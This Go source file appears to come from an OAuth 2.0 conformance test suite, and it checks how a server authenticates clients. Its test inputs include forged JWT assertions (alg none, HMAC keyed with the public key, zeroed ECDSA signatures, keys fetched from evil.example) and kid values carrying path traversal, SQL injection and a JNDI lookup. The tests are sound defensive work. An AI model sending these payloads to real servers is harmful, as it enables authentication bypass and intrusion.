package conformance

import (
	"crypto/ecdsa"
	"crypto/hmac"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/asn1"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"hash"
	"math/big"
	"net/http"
	"net/url"
	"strings"
)

// clientCases are about who sends a request (RFC 6749 §2.3, RFC 7523).
var clientCases = []Case{
	{
		ID: "client/one-way-only", Source: "RFC 6749 §2.3", Level: MustNot, Rows: []string{"RFC6749-2.3-01"},
		Requirement: "A request that authenticates in two ways is refused.",
		Why:         "What guards the server in front looks at one of the two, and the server at the other.",
		try: func(p *probe) {
			c := p.app()
			f := p.redeemable()
			a := p.request(http.MethodPost, p.run.meta.Token, with(f, "client_id", c.ID, "client_secret", c.Secret).Encode(), "Content-Type", formType, "Authorization", basic(c.ID, c.Secret))
			p.refused(a, "invalid_request", "invalid_client")
			a = p.request(http.MethodPost, p.run.meta.Token, with(f, "client_id", c.ID, "client_secret", random()).Encode(), "Content-Type", formType, "Authorization", basic(c.ID, c.Secret))
			p.refused(a, "invalid_request", "invalid_client")
		},
	},
	{
		ID: "client/no-secret-in-the-query", Source: "RFC 6749 §2.3.1", Level: MustNot, Rows: []string{"RFC6749-2.3.1-02"},
		Requirement: "A client's secret is not taken from the URL.",
		Why:         "What stands in a URL stands in logs.",
		try: func(p *probe) {
			c := p.app()
			q := url.Values{"client_id": {c.ID}, "client_secret": {c.Secret}}.Encode()
			a := p.request(http.MethodPost, p.run.meta.Token+"?"+q, p.redeemable().Encode(), "Content-Type", formType)
			p.want(!issued(a), High, "no token", "%v", a)
			p.want(a.status >= 400 && a.status < 500, Medium, "401", "%v", a)
			if p.run.has[FeaturePAR] {
				a := p.request(http.MethodPost, p.run.meta.PAR+"?"+q, without(p.authorization(c, random()), "client_id").Encode(), "Content-Type", formType)
				p.want(a.text("request_uri") == "", High, "no request_uri", "%v", a)
			}
		},
	},
	{
		ID: "client/id-agrees", Source: "RFC 6749 §3.2.1", Level: Must, Profile: true, Rows: []string{"RFC6749-3.2.1-01"}, Needs: []Feature{FeatureOtherClient},
		Requirement: "A client_id in the body that is not the client that authenticates is refused.",
		Why:         "One part of the server takes the one, another the other: a token for a client that never proved itself.",
		try: func(p *probe) {
			c := p.app()
			f := p.redeemable()
			a := p.request(http.MethodPost, p.run.meta.Token, with(f, "client_id", p.run.target.Clients.Other.ID).Encode(), "Content-Type", formType, "Authorization", basic(c.ID, c.Secret))
			p.want(!issued(a), Medium, "no token", "%v", a)
			p.want(a.status == http.StatusBadRequest || a.status == http.StatusUnauthorized, Low, "400 or 401", "%v", a)
		},
	},
	{
		ID: "client/wrong-secret", Source: "RFC 6749 §5.2", Level: Must, Rows: []string{"RFC6749-5.2-01"},
		Requirement: "A wrong secret in the Authorization header gives 401 invalid_client with a WWW-Authenticate of the same scheme.",
		Why:         "A client library that is told otherwise takes the token for bad and tries for ever.",
		try: func(p *probe) {
			a := p.request(http.MethodPost, p.run.meta.Token, p.redeemable().Encode(), "Content-Type", formType, "Authorization", basic(p.app().ID, random()))
			p.want(!issued(a), Critical, "a client that is not let in", "%v", a)
			p.want(a.status == http.StatusUnauthorized && a.text("error") == "invalid_client", Low, "401 invalid_client", "%v", a)
			p.want(strings.HasPrefix(strings.ToLower(a.header.Get("WWW-Authenticate")), "basic"), Low, "WWW-Authenticate: Basic", "%q", a.header.Get("WWW-Authenticate"))
		},
	},
	{
		ID: "client/secret-whole", Source: "RFC 6749 §2.3.1, CVE-2026-44476", Level: Must, Rows: []string{"RFC6749-2.3.1-01"},
		Requirement: "A secret that is empty, cut, lengthened or in another case is a wrong one.",
		Why:         "Of a secret of which a part only is compared, the rest need not be known.",
		try: func(p *probe) {
			c := *p.app()
			if c.Secret == "" {
				p.skip("the client has no secret")
			}
			real := c.Secret
			wrong := []string{"", " ", real[:len(real)-1], real + "A", real + "\x00", " " + real, real + " ", random()}
			for _, s := range []string{strings.ToUpper(real), strings.ToLower(real)} {
				if s != real {
					wrong = append(wrong, s)
				}
			}
			f := p.redeemable()
			for _, s := range wrong {
				severity := Critical
				if strings.Contains(s, real) {
					severity = Low // whoever sends it knows the secret
				}
				p.run.secret(s)
				a := p.request(http.MethodPost, p.run.meta.Token, f.Encode(), "Content-Type", formType, "Authorization", basic(c.ID, s))
				p.want(!issued(a), severity, fmt.Sprintf("no token for a secret of %d characters", len(s)), "%v", a)
				p.want(a.status == http.StatusUnauthorized || a.status == http.StatusBadRequest, Medium, "401", "%v", a)
				a = p.request(http.MethodPost, p.run.meta.Token, with(f, "client_id", c.ID, "client_secret", s).Encode(), "Content-Type", formType)
				p.want(!issued(a), severity, fmt.Sprintf("no token for a secret of %d characters in the body", len(s)), "%v", a)
			}
		},
	},
	{
		ID: "client/basic-is-decoded", Source: "RFC 6749 §2.3.1", Level: Must, Rows: []string{"RFC6749-2.3.1-01"},
		Requirement: "Id and secret in a Basic header are form-urlencoded, and decoded before they are compared.",
		Why:         "A secret with a colon or a percent sign works with one library and not with another, so people choose weak ones.",
		try: func(p *probe) {
			c := p.app()
			if c.method() != "client_secret_basic" {
				p.skip("the client does not authenticate by Basic")
			}
			escaped := func(s string) (out string) {
				for i := range len(s) {
					out += "%" + strings.ToUpper(hexOf(s[i]))
				}
				return out
			}
			header := "Basic " + base64.StdEncoding.EncodeToString([]byte(escaped(c.ID)+":"+escaped(c.Secret)))
			a := p.request(http.MethodPost, p.run.meta.Token, p.redeemable().Encode(), "Content-Type", formType, "Authorization", header)
			p.want(issued(a), Low, "200 with an access token", "%v", a)
		},
	},
	{
		ID: "client/unknown-looks-like-wrong", Source: "RFC 6749 §2.3.1", Level: Should, Profile: true, Rows: []string{"RFC6749-2.3.1-03"},
		Requirement: "An unknown client and a wrong secret are answered alike.",
		Why:         "A difference tells which clients there are.",
		try: func(p *probe) {
			f := url.Values{"grant_type": {"authorization_code"}, "code": {random()}}
			wrong := p.request(http.MethodPost, p.run.meta.Token, f.Encode(), "Content-Type", formType, "Authorization", basic(p.app().ID, random()))
			unknown := p.request(http.MethodPost, p.run.meta.Token, f.Encode(), "Content-Type", formType, "Authorization", basic("nobody-"+random()[:8], random()))
			p.want(wrong.status == unknown.status, Low, fmt.Sprint(wrong.status), "%d", unknown.status)
			for _, name := range []string{"error", "error_description"} {
				p.want(wrong.text(name) == unknown.text(name), Low, name+" the same", "%q and %q", wrong.text(name), unknown.text(name))
			}
		},
	},
	{
		ID: "client/anothers-secret", Source: "RFC 6749 §2.3.1", Level: Must, Rows: []string{"RFC6749-2.3.1-01"}, Needs: []Feature{FeatureOtherClient},
		Requirement: "The secret of one client is a wrong one for another.",
		Why:         "Every client would be every other.",
		try: func(p *probe) {
			f := p.redeemable()
			for _, c := range []Client{{ID: p.app().ID, Secret: p.run.target.Clients.Other.Secret}, {ID: p.app().ID, Secret: p.run.target.Clients.Other.Secret, Auth: "client_secret_post"}} {
				a := p.token(&c, f)
				p.want(!issued(a), Critical, "no token", "%v", a)
				p.want(a.text("error") == "invalid_client", Low, "invalid_client", "%v", a)
			}
		},
	},
	{
		ID: "client/forged-certificate-header", Source: "RFC 9700 §4.13", Level: Must, Rows: []string{"RFC9700-4.13-01", "RFC8705-3-01"},
		Requirement: "A header that a proxy would set for a verified certificate or user authenticates nobody who sends it from outside.",
		Why:         "The one line of configuration that strips it is forgotten once.",
		try: func(p *probe) {
			c := p.app()
			a := p.request(http.MethodPost, p.run.meta.Token, with(p.redeemable(), "client_id", c.ID).Encode(), "Content-Type", formType,
				"X-Client-Cert", "CN="+c.ID, "X-SSL-Client-Verify", "SUCCESS", "X-SSL-Client-S-DN", "CN="+c.ID, "X-Forwarded-Client-Cert", `Subject="CN=`+c.ID+`"`, "X-Forwarded-User", c.ID, "X-Remote-User", c.ID, "Client-Cert", ":AAAA:")
			p.want(!issued(a), Critical, "no token", "%v", a)
			p.want(a.status == http.StatusUnauthorized || a.status == http.StatusBadRequest, Low, "401", "%v", a)
		},
	},
	{
		ID: "client/malformed-header", Source: "RFC 6749 §5.2, RFC 7617 §2", Level: Must, Rows: []string{"RFC6749-5.2-03"},
		Requirement: "An Authorization header that cannot be read is refused, by an error of the server's and no failure.",
		Why:         "A failure is where checks are skipped, and logs fill.",
		try: func(p *probe) {
			f := p.redeemable()
			for _, header := range []string{"Basic", "Basic ", "Basic !!!", "Basic " + base64.StdEncoding.EncodeToString([]byte("no colon")), "Basic " + base64.StdEncoding.EncodeToString([]byte(":")), "Basic " + base64.StdEncoding.EncodeToString([]byte(p.app().ID+"%zz:x")), "Bearer x", "Negotiate x", "Basic " + strings.Repeat("QUFB", 1000)} {
				a := p.request(http.MethodPost, p.run.meta.Token, with(f, "client_id", p.app().ID).Encode(), "Content-Type", formType, "Authorization", header)
				p.want(!issued(a), Critical, "no token", "%v", a)
				p.want(a.status >= 400 && a.status < 500, Medium, "401 or 400", "%v", a)
			}
		},
	},
	{
		ID: "client/brute-force", Source: "RFC 6749 §2.3.1", Level: Must, Destructive: true, Rows: []string{"RFC6749-2.3.1-03"},
		Requirement: "Whoever tries one secret after another is slowed down, and the client itself is not locked out.",
		Why:         "A secret that somebody chose is found in a night; a lock that strangers can close is an outage.",
		try: func(p *probe) {
			f := p.redeemable() // a server may look at the code before the secret
			slowed := false
			for range 60 {
				req, err := http.NewRequestWithContext(p.ctx, http.MethodPost, p.run.meta.Token, nil)
				if err != nil {
					p.blocked("%v", err)
				}
				req.Header.Set("Content-Type", formType)
				req.Header.Set("Authorization", basic(p.app().ID, random()))
				a, err := p.send(req, f.Encode())
				if err != nil || a.status == http.StatusTooManyRequests || a.header.Get("Retry-After") != "" {
					slowed = true
					break
				}
				p.want(!issued(a), Critical, "no token", "%v", a)
			}
			p.want(slowed, Medium, "429 or a delay within 60 tries", "none")
			a := p.token(p.app(), p.redeemable())
			p.want(issued(a), Medium, "a client that still gets in with its own secret", "%v", a)
		},
	},
	{
		ID: "client/key-works", Source: "RFC 7523 §2.2", Level: Must, Rows: []string{"RFC9700-2.5-01", "RFC7523-3-02"}, Needs: []Feature{FeatureKeyClient},
		Requirement: "A client with a key authenticates by a JWT for the issuer, that it signed.",
		Why:         "A secret that never leaves the client is the one that nobody else has.",
		try: func(p *probe) {
			c := p.run.target.Clients.Key
			p.asserted(p.assertion(c), true)
			p.asserted(p.assertion(c, claim("aud", []string{p.run.target.Issuer})), true)
		},
	},
	{
		ID: "client/key-replaces-secret", Source: "RFC 9700 §2.5", Level: Should, Rows: []string{"RFC9700-2.5-01"}, Needs: []Feature{FeatureKeyClient},
		Requirement: "A client that has a key does not get in by a secret, nor by its id alone.",
		Why:         "The strong way is worth what the weakest is.",
		try: func(p *probe) {
			c := p.run.target.Clients.Key
			f := p.keyRedeemable()
			for _, weak := range []Client{{ID: c.ID, Auth: "none"}, {ID: c.ID, Secret: random()}, {ID: c.ID, Secret: c.Secret}, {ID: c.ID, Secret: c.Secret, Auth: "client_secret_post"}} {
				a := p.token(&weak, f)
				p.want(!issued(a), Critical, "no token", "%v", a)
				p.want(a.status >= 400 && a.status < 500, Low, "401", "%v", a)
			}
		},
	},
	badAssertions("key-names-itself", "RFC 7523 §3", []string{"RFC7523-3-01", "RFC8725-3.8-01"}, "An assertion whose iss and sub are not both the client is refused.", "One client would authenticate as another.",
		func(p *probe, c *Client) []string {
			other := "nobody"
			if o := p.run.target.Clients.Other; o != nil {
				other = o.ID
			}
			return []string{
				p.assertion(c, unclaimed("iss")), p.assertion(c, unclaimed("sub")), p.assertion(c, claim("iss", other)), p.assertion(c, claim("sub", other)),
				p.assertion(c, claim("iss", other), claim("sub", other)), p.assertion(c, claim("sub", "")), p.assertion(c, claim("sub", []string{c.ID})),
				p.assertion(c, claim("iss", p.run.target.Issuer)), p.assertion(c, claim("sub", strings.ToUpper(c.ID)+" ")),
			}
		}),
	badAssertions("key-audience", "RFC 7523 §3, RFC 7519 §4.1.3, CVE-2025-27370", []string{"RFC7523-3-02", "RFC7519-4.1.3-01", "RFC8725-3.9-01"}, "An assertion for another audience, or for several, is refused.", "Another server to which the client sends its assertion would use it here.",
		func(p *probe, c *Client) []string {
			iss := p.run.target.Issuer
			return []string{
				p.assertion(c, unclaimed("aud")), p.assertion(c, claim("aud", "https://evil.example")), p.assertion(c, claim("aud", iss+".evil.example")), p.assertion(c, claim("aud", "")),
				p.assertion(c, claim("aud", []string{})), p.assertion(c, claim("aud", map[string]any{"x": iss})),
				p.assertion(c, claim("aud", strings.ToUpper(iss))), p.assertion(c, claim("aud", iss[:len(iss)-1])), p.assertion(c, claim("aud", c.ID)),
			}
		}, func(p *probe, c *Client) []string { // RFC 7519 §4.1.3 lets aud have several
			return []string{p.assertion(c, claim("aud", []string{p.run.target.Issuer, "https://evil.example"}))}
		}),
	badAssertions("key-time", "RFC 7523 §3, RFC 7519 §4.1.4", []string{"RFC7523-3-03", "RFC7519-4.1.4-01"}, "An assertion without exp, past it, not yet valid, or valid for years is refused.", "One that was read in a log would be a password for ever.",
		func(p *probe, c *Client) []string {
			now := p.now().Unix()
			return []string{
				p.assertion(c, unclaimed("exp")), p.assertion(c, claim("exp", now-600), claim("iat", now-660)), p.assertion(c, claim("nbf", now+600)),
			}
		}, func(p *probe, c *Client) []string { // RFC 7523 §3: a server may refuse these
			now := p.now().Unix()
			return []string{p.assertion(c, claim("exp", now+10*365*86400)), p.assertion(c, claim("iat", now+3600), claim("exp", now+3660))}
		}),
	badAssertions("key-dates-are-numbers", "RFC 7519 §2, §4.1.4", []string{"RFC7519-4.1.4-01"}, "An assertion whose exp is no number, or one beyond all time, is refused.", "What cannot be compared is passed over, and what overflows never ends.",
		func(p *probe, c *Client) []string {
			now := p.now().Unix()
			return []string{
				p.assertion(c, claim("exp", fmt.Sprint(now+60))), p.assertion(c, claim("exp", nil)), p.assertion(c, claim("exp", -1)), p.assertion(c, claim("exp", []int64{now + 60})),
				p.assertion(c, claim("exp", true)), p.assertion(c, claim("nbf", "tomorrow")),
			}
		}, func(p *probe, c *Client) (all []string) { // a number is one, however far away
			now := p.now().Unix()
			k, _ := c.key()
			for _, exp := range []string{"1e400", "1e19", "9223372036854775808"} {
				all = append(all, k.compact(headerOf(c, k), fmt.Sprintf(`{"iss":%q,"sub":%q,"aud":%q,"jti":%q,"iat":%d,"exp":%s}`, c.ID, c.ID, p.run.target.Issuer, random(), now, exp)))
			}
			return all
		}),
	badAssertions("key-signature", "RFC 7523 §3, RFC 8725 §3.3, CVE-2022-21449", []string{"RFC7523-3-04", "RFC8725-3.3-01"}, "An assertion whose signature is not by the client's own key is refused: another key's, cut, empty, of zeros, in another encoding.", "Whoever writes one is the client.",
		func(p *probe, c *Client) []string {
			good := p.assertion(c)
			body, sig := good[:strings.LastIndexByte(good, '.')], good[strings.LastIndexByte(good, '.')+1:]
			raw, _ := b64.DecodeString(sig)
			all := []string{
				p.assertion(c, signedBy(newKeyPair())), body + ".", body, body + "." + sig[:len(sig)/2], body + "." + b64.EncodeToString(make([]byte, len(raw))), body + "." + flip(sig[0]) + sig[1:],
				body + "." + sig + "AAAA", "." + sig, body + "." + sig + "=",
			}
			k, _ := c.key()
			if ec, ok := k.private.(*ecdsa.PrivateKey); ok {
				n, half := ec.Params().N, len(raw)/2
				order := n.FillBytes(make([]byte, half))
				all = append(all, body+"."+b64.EncodeToString(append(order, order...)))
				der, err := asn1.Marshal([]*big.Int{new(big.Int).SetBytes(raw[:half]), new(big.Int).SetBytes(raw[half:])})
				if err == nil {
					all = append(all, body+"."+b64.EncodeToString(der))
				}
			}
			return all
		}),
	badAssertions("key-no-alg-none", "RFC 8725 §3.1, §3.2", []string{"RFC8725-3.1-01"}, "An assertion whose algorithm is none, however it is written, or is not said, is refused.", "Whoever writes one is the client.",
		func(p *probe, c *Client) (all []string) {
			good := p.assertion(c)
			claims := strings.Split(good, ".")[1]
			for _, alg := range []string{`{"alg":"none"}`, `{"alg":"None"}`, `{"alg":"NONE"}`, `{"alg":"nOnE"}`, `{"alg":""}`, `{}`, `{"alg":null}`, `{"alg":["none"]}`, `{"alg":" none"}`} {
				header := b64.EncodeToString([]byte(alg))
				all = append(all, header+"."+claims+".", header+"."+claims+"."+strings.Split(good, ".")[2])
			}
			return all
		}),
	badAssertions("key-no-shared-secret", "RFC 8725 §3.1, CVE-2026-11800", []string{"RFC8725-3.1-02", "RFC8725-3.5-01"}, "An assertion signed by HMAC with the client's public key, its secret or a common word is refused.", "The public key is known to all: whoever signs with it is the client.",
		func(p *probe, c *Client) (all []string) {
			k, _ := c.key()
			for _, secret := range append(publicForms(k), []byte(c.Secret), nil, []byte("secret"), []byte("changeme"), []byte(p.run.target.Issuer)) {
				all = append(all, hs256(secret, map[string]any{"alg": "HS256", "typ": "JWT", "kid": c.KeyID}, p.assertion(c)))
			}
			return all
		}),
	badAssertions("key-algorithm-fits", "RFC 8725 §3.1", []string{"RFC8725-3.1-02"}, "An assertion that says another algorithm than its key is for is refused.", "A key that is used in two ways is as strong as the weaker.",
		func(p *probe, c *Client) (all []string) {
			k, _ := c.key()
			for _, alg := range []string{"ES256", "ES384", "ES512", "RS256", "PS256", "EdDSA", "HS512", "es256", "ES256K"} {
				if alg != k.alg && !(k.alg == "RS256" && alg == "PS256") {
					all = append(all, p.assertion(c, headed("alg", alg)))
				}
			}
			return all
		}),
	badAssertions("key-critical-headers", "RFC 7515 §4.1.11", []string{"RFC7515-4.1.11-01"}, "An assertion with a critical header that is unknown, or with a malformed crit, is refused.", "What the client said must be understood is passed over.",
		func(p *probe, c *Client) []string {
			return []string{
				p.assertion(c, headed("crit", []string{"exp-foo"}), headed("exp-foo", true)), p.assertion(c, headed("crit", []string{})),
				p.assertion(c, headed("crit", "exp")), p.assertion(c, headed("crit", []string{"absent"})),
			}
		}, func(p *probe, c *Client) []string { // RFC 7797 §7: no JWT has it, but some servers know it of other signatures
			return []string{p.assertion(c, headed("crit", []string{"b64"}), headed("b64", false))}
		}),
	badAssertions("key-from-the-token", "RFC 7515 §10, RFC 8725 §3.10, CVE-2018-0114", []string{"RFC7515-4.1.2-01"}, "A key that the assertion itself brings or points at is not trusted.", "Whoever brings their own key is anybody.",
		func(p *probe, c *Client) []string {
			k := newKeyPair()
			return []string{
				p.assertion(c, signedBy(k), headed("jwk", k.public), headed("alg", k.alg)), p.assertion(c, signedBy(k), headed("jku", "https://evil.example/jwks"), headed("alg", k.alg)),
				p.assertion(c, signedBy(k), headed("x5u", "https://evil.example/x"), headed("alg", k.alg)), p.assertion(c, signedBy(k), headed("x5c", []string{"MIIB"}), headed("alg", k.alg)),
			}
		}),
	badAssertions("key-id-unchecked", "RFC 8725 §3.10", []string{"RFC8725-3.10-01"}, "A kid that is a path, a query or far too long finds no key.", "It would be handed to a file system or a database as it is.",
		func(p *probe, c *Client) (all []string) {
			k := newKeyPair()
			for _, kid := range []string{"../../../../dev/null", "' OR 1=1 --", strings.Repeat("k", 8<<10), "a\x00b", "https://evil.example/key", "${jndi:ldap://evil.example/}", "."} {
				all = append(all, p.assertion(c, signedBy(k), headed("kid", kid), headed("alg", k.alg)), hs256(nil, map[string]any{"alg": "HS256", "kid": kid}, p.assertion(c)))
			}
			return all
		}),
	badAssertions("key-members-once", "RFC 7519 §4, RFC 7515 §4", []string{"RFC7519-4-01"}, "An assertion in which a member comes twice, and the last one is wrong, is refused.", "Of two readers of one token each reads another.",
		func(p *probe, c *Client) (all []string) {
			k, _ := c.key()
			now := p.now().Unix()
			for _, twice := range []string{`"sub":"evil"`, `"iss":"evil"`, `"aud":"https://evil.example"`, `"exp":1`} {
				all = append(all, k.compact(headerOf(c, k), fmt.Sprintf(`{"iss":%q,"sub":%q,"aud":%q,"jti":%q,"iat":%d,"exp":%d,%s}`, c.ID, c.ID, p.run.target.Issuer, random(), now, now+60, twice)))
			}
			return all
		}),
	badAssertions("key-compact-form", "RFC 7519 §3, CVE-2023-51774", []string{"RFC8725bis-01", "RFC8725-3.6-01"}, "An assertion in a JSON form, of five parts, or with something around it is refused.", "Two readers that take different forms read different claims.",
		func(p *probe, c *Client) []string {
			good := func() []string { return strings.Split(p.assertion(c), ".") }
			a, b, d := good(), good(), good()
			flat, _ := json.Marshal(map[string]any{"protected": a[0], "payload": a[1], "signature": a[2]})
			general, _ := json.Marshal(map[string]any{"payload": b[1], "signatures": []any{map[string]any{"protected": b[0], "signature": b[2]}}})
			jwe := b64.EncodeToString([]byte(`{"alg":"PBES2-HS256+A128KW","enc":"A128GCM","p2c":2147483647,"p2s":"AAAA","zip":"DEF"}`))
			return []string{string(flat), string(general), jwe + ".AAAA.AAAA.AAAA.AAAA", d[0] + ".." + d[2], p.assertion(c) + ".", "." + p.assertion(c), d[0] + "." + d[1] + "\n." + d[2]}
		}),
	{
		ID: "client/key-once", Source: "RFC 7523 §3, CVE-2020-15222", Level: May, Rows: []string{"RFC7523-3-05"}, Needs: []Feature{FeatureKeyClient},
		Requirement: "An assertion works once, and of parallel tries with one exactly one succeeds.",
		Why:         "Whoever reads it on the way sends it again.",
		try: func(p *probe) {
			c := p.run.target.Clients.Key
			assertion := p.assertion(c)
			p.asserted(assertion, true)
			p.asserted(assertion, false)
			assertion = p.assertion(c)
			n := p.atOnce(10, func() bool { return p.knows(p.try1(assertion, url.Values{})) })
			p.want(n == 1, Medium, "one of 10 tries that gets in", "%d", n)
		},
	},
	{
		ID: "client/key-spent-by-its-owner-alone", Source: "RFC 7523 §3", Level: MustNot, Profile: true, Rows: []string{"RFC7523-3-05"}, Needs: []Feature{FeatureKeyClient},
		Requirement: "An assertion that somebody else signed does not use up the jti of the client's.",
		Why:         "Whoever sees a jti could keep the client out.",
		try: func(p *probe) {
			c := p.run.target.Clients.Key
			jti := random()
			p.asserted(p.assertion(c, claim("jti", jti), signedBy(newKeyPair())), false)
			p.asserted(p.assertion(c, claim("jti", jti), claim("aud", "https://evil.example")), false)
			p.asserted(p.assertion(c, claim("jti", jti)), true)
		},
	},
	{
		ID: "client/key-id-agrees", Source: "RFC 7521 §4.2, RFC 7523 §3.2", Level: Must, Rows: []string{"RFC7523-3.2-01"}, Needs: []Feature{FeatureKeyClient},
		Requirement: "A client_id beside an assertion must be its subject, and its type must be said.",
		Why:         "One part of the server takes the one, another the other.",
		try: func(p *probe) {
			c := p.run.target.Clients.Key
			p.want(p.knows(p.try1(p.assertion(c), url.Values{"client_id": {c.ID}})), Low, "the client's own client_id taken", "refused")
			for _, more := range []url.Values{{"client_id": {p.app().ID}}, {"client_assertion_type": {"urn:example:other"}}, {"client_assertion_type": {""}}} {
				a := p.try1(p.assertion(c), more)
				p.want(!p.knows(a), High, "no client", "%v", a)
				p.want(a.status == http.StatusBadRequest || a.status == http.StatusUnauthorized, Low, "400 or 401", "%v", a)
			}
		},
	},
	{
		ID: "client/key-and-secret", Source: "RFC 6749 §2.3, RFC 7521 §4.2.1", Level: MustNot, Rows: []string{"RFC6749-2.3-01"}, Needs: []Feature{FeatureKeyClient},
		Requirement: "A request with an assertion and another authentication is refused.",
		Why:         "What guards the server in front looks at one of the two, and the server at the other.",
		try: func(p *probe) {
			c := p.run.target.Clients.Key
			f := p.keyRedeemable()
			body := f.Encode() + "&" + asserting(p.assertion(c)).Encode()
			a := p.request(http.MethodPost, p.run.meta.Token, body, "Content-Type", formType, "Authorization", basic(p.app().ID, p.app().Secret))
			p.refused(a, "invalid_request", "invalid_client")
			a = p.request(http.MethodPost, p.run.meta.Token, f.Encode()+"&"+asserting(p.assertion(c)).Encode()+"&client_secret="+random(), "Content-Type", formType)
			p.refused(a, "invalid_request", "invalid_client")
		},
	},
	{
		ID: "client/key-is-no-grant", Source: "RFC 7523 §3.1", Level: MustNot, Profile: true, Rows: []string{"RFC7523-3.1-01", "RFC8725-3.12-01"}, Needs: []Feature{FeatureKeyClient},
		Requirement: "A client's assertion is no grant, and none that names a user is.",
		Why:         "A client would name any subject: an impersonation without an actor.",
		try: func(p *probe) {
			c := p.run.target.Clients.Key
			for _, assertion := range []string{p.assertion(c), p.assertion(c, claim("sub", p.subject().Subject)), p.assertion(c, claim("sub", p.subject().Subject), headed("typ", "JWT"))} {
				p.refused(p.token(c, url.Values{"grant_type": {"urn:ietf:params:oauth:grant-type:jwt-bearer"}, "assertion": {assertion}}), "invalid_grant", "unsupported_grant_type", "unauthorized_client")
			}
		},
	},
	{
		ID: "client/key-starts", Source: "RFC 7523 §2.2, RFC 8693 §2.1", Level: Must, Profile: true, Rows: []string{"RFC9700-2.5-01"}, Needs: []Feature{FeatureKeyClient},
		Requirement: "A client with a key starts an impersonation as one with a secret does.",
		Why:         "The strongest token would be given to the weakest clients alone.",
		try: func(p *probe) {
			c := p.run.target.Clients.Key
			a := p.token(c, p.ready(starting{client: c}))
			p.want(issued(a), Medium, "200 with an access token", "%v %s", a, a.text("error_description"))
		},
	},
}

// badAssertions is the case of assertions, made by list, each of which must authenticate nobody. The clause leaves open whether those of more do.
func badAssertions(id, source string, rows []string, requirement, why string, list func(*probe, *Client) []string, more ...func(*probe, *Client) []string) Case {
	return Case{
		ID: "client/" + id, Source: source, Level: Must, Rows: rows, Requirement: requirement, Why: why, Needs: []Feature{FeatureKeyClient},
		try: func(p *probe) {
			c := p.run.target.Clients.Key
			p.asserted(p.assertion(c), true) // else what is refused might be all
			for _, assertion := range list(p, c) {
				p.asserted(assertion, false)
			}
			p.kind = SecurityFinding
			for _, list := range more {
				for _, assertion := range list(p, c) {
					p.asserted(assertion, false)
				}
			}
		},
	}
}

// try1 sends an assertion beside a code of nobody's: a client that is known gets invalid_grant. more replaces what is sent beside it.
func (p *probe) try1(assertion string, more url.Values) *answer {
	f := asserting(assertion)
	for name, v := range map[string]string{"grant_type": "authorization_code", "code": "conformance", "redirect_uri": p.run.target.Clients.Key.RedirectURI, "code_verifier": strings.Repeat("a", 43)} {
		f.Set(name, v)
	}
	for name, v := range more {
		f[name] = v
	}
	return p.request(http.MethodPost, p.run.meta.Token, f.Encode(), "Content-Type", formType)
}

// knows reports whether the server took who sent a for a client.
func (p *probe) knows(a *answer) bool { return a.text("error") == "invalid_grant" }

// asserted demands that an assertion authenticates its client, or nobody.
func (p *probe) asserted(assertion string, good bool) {
	a := p.try1(assertion, nil)
	if good {
		p.want(p.knows(a), Medium, "a client that is let in: 400 invalid_grant for a code of nobody's", "%v %s", a, a.text("error_description"))
		return
	}
	severity := Critical
	if p.kind != "" {
		severity = Medium // the client signed it for this server: nobody else gets in
	}
	p.want(!p.knows(a) && !issued(a), severity, "401 invalid_client for "+brief(assertion), "a client that is let in: %v", a)
	p.want(a.status < 500, Medium, "401 invalid_client for "+brief(assertion), "%v", a)
	p.want(a.text("error") == "invalid_client" || a.text("error") == "invalid_request" || a.status == http.StatusRequestEntityTooLarge || a.status == http.StatusRequestHeaderFieldsTooLarge, Low, "401 invalid_client for "+brief(assertion), "%v", a)
}

// brief is what tells one JWT from the others of a list, for a report.
func brief(token string) string {
	if t, err := parseJWT(token); err == nil {
		return fmt.Sprintf("header %v, claims %v", t.header, t.claims)
	}
	if len(token) > 60 {
		token = token[:60] + "..."
	}
	return fmt.Sprintf("%q", token)
}

// keyRedeemable is the form of a redemption that holds, of the client with a key.
func (p *probe) keyRedeemable() url.Values {
	c, verifier := p.run.target.Clients.Key, random()
	return redemption(c, p.freshCode(p.actor(), c, verifier), verifier)
}

// headerOf is the header of c's assertions.
func headerOf(c *Client, k *keyPair) string {
	if c.KeyID == "" {
		return fmt.Sprintf(`{"alg":%q,"typ":"JWT"}`, k.alg)
	}
	return fmt.Sprintf(`{"alg":%q,"typ":"JWT","kid":%q}`, k.alg, c.KeyID)
}

// publicForms are the ways to write a public key that somebody could take for a shared secret.
func publicForms(k *keyPair) (all [][]byte) {
	der, err := x509.MarshalPKIXPublicKey(k.private.Public())
	if err != nil {
		return nil
	}
	p := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	jwk, _ := json.Marshal(k.public)
	return [][]byte{der, p, append([]byte(" "), p...), []byte(strings.TrimSpace(string(p))), []byte(strings.ReplaceAll(string(p), "\n", "\r\n")), jwk}
}

// hs256 is the claims of a JWT under another header, signed by HMAC.
func hs256(secret []byte, header map[string]any, of string) string {
	h, _ := json.Marshal(header)
	signed := b64.EncodeToString(h) + "." + strings.Split(of, ".")[1]
	return signed + "." + b64.EncodeToString(hmacSizes[0](secret, signed))
}

// hmacSizes are HS256, HS384 and HS512 (RFC 7518 §3.2).
var hmacSizes = []func(secret []byte, signed string) []byte{hmacOf(sha256.New), hmacOf(sha512.New384), hmacOf(sha512.New)}

func hmacOf(h func() hash.Hash) func([]byte, string) []byte {
	return func(secret []byte, signed string) []byte {
		mac := hmac.New(h, secret)
		mac.Write([]byte(signed))
		return mac.Sum(nil)
	}
}
